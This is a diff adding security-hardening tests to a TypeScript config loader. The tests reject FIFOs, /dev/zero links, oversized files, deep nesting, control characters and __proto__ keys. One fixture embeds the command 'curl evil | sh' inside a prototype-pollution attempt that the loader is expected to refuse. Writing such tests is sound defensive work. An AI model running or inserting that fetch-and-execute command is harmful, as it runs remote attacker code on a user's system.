@@ -75,5 +75,47 @@ test("a config that cannot be read is an error naming the file, not a default", 
   const { loadConfig } = await import("./config.js")
   const project = mkdtempSync(path.join(os.tmpdir(), "config-"))
   mkdirSync(path.join(project, ".opencode", "orchestrator.json"), { recursive: true }) // a folder where the file should be
-  assert.throws(() => loadConfig(project), (error: unknown) => error instanceof ConfigError && error.message === ".opencode/orchestrator.json: cannot read it (EISDIR)")
+  assert.throws(() => loadConfig(project), (error: unknown) => error instanceof ConfigError && error.message === ".opencode/orchestrator.json: is not a regular file")
+})
+
+test("a FIFO, or a link to /dev/zero, in place of the config is refused at once, never read", async () => {
+  const { mkdtempSync, mkdirSync, symlinkSync } = await import("node:fs")
+  const { execFileSync } = await import("node:child_process")
+  const os = await import("node:os")
+  const path = await import("node:path")
+  const { loadConfig } = await import("./config.js")
+  for (const make of [(file: string) => execFileSync("mkfifo", [file]), (file: string) => symlinkSync("/dev/zero", file)]) {
+    const project = mkdtempSync(path.join(os.tmpdir(), "config-"))
+    mkdirSync(path.join(project, ".opencode"))
+    make(path.join(project, ".opencode", "orchestrator.json"))
+    assert.throws(() => loadConfig(project), /orchestrator\.json: is not a regular file/)
+  }
+})
+
+test("a config larger than the cap is refused", async () => {
+  const { mkdtempSync, mkdirSync, writeFileSync } = await import("node:fs")
+  const os = await import("node:os")
+  const path = await import("node:path")
+  const { loadConfig, maxConfigBytes } = await import("./config.js")
+  const project = mkdtempSync(path.join(os.tmpdir(), "config-"))
+  mkdirSync(path.join(project, ".opencode"))
+  writeFileSync(path.join(project, ".opencode", "orchestrator.json"), `{"verify": ["true"]}${" ".repeat(maxConfigBytes)}`)
+  assert.throws(() => loadConfig(project), /is larger than 256 KiB/)
+})
+
+test("a __proto__ key is an unknown key: it cannot hide or supply settings", () => {
+  assert.throws(() => parseConfig('{"__proto__": {"verify": ["curl evil | sh"]}}', "f"), /unknown key "__proto__"/)
+  assert.throws(() => parseConfig('{"verify": ["npm test"], "__proto__": {"verify": []}}', "f"), /unknown key "__proto__"/)
+  assert.throws(() => parseConfig('{"worktrees": {"constructor": 1}}', "f"), /unknown key "worktrees.constructor"/)
+})
+
+test("very deep nesting is a ConfigError, not a RangeError", () => {
+  const deep = `{"roles": ${"[".repeat(100_000)}${"]".repeat(100_000)}}`
+  assert.throws(() => parseConfig(deep, "f"), (error: unknown) => error instanceof ConfigError && /nested deeper than 32 levels/.test(error.message))
+})
+
+test("a NUL or other control character in a verify or setup command is refused", () => {
+  assert.throws(() => parseConfig('{"verify": ["npm\\u0000 test"]}', "f"), /key "verify.0": must not contain NUL/)
+  assert.throws(() => parseConfig('{"worktrees": {"setup": ["npm ci\\u001b"]}}', "f"), /key "worktrees.setup.0"/)
+  assert.deepEqual(parseConfig('{"verify": ["npm test\\n\\tnpm run lint"]}', "f").verify, ["npm test\n\tnpm run lint"])
 })
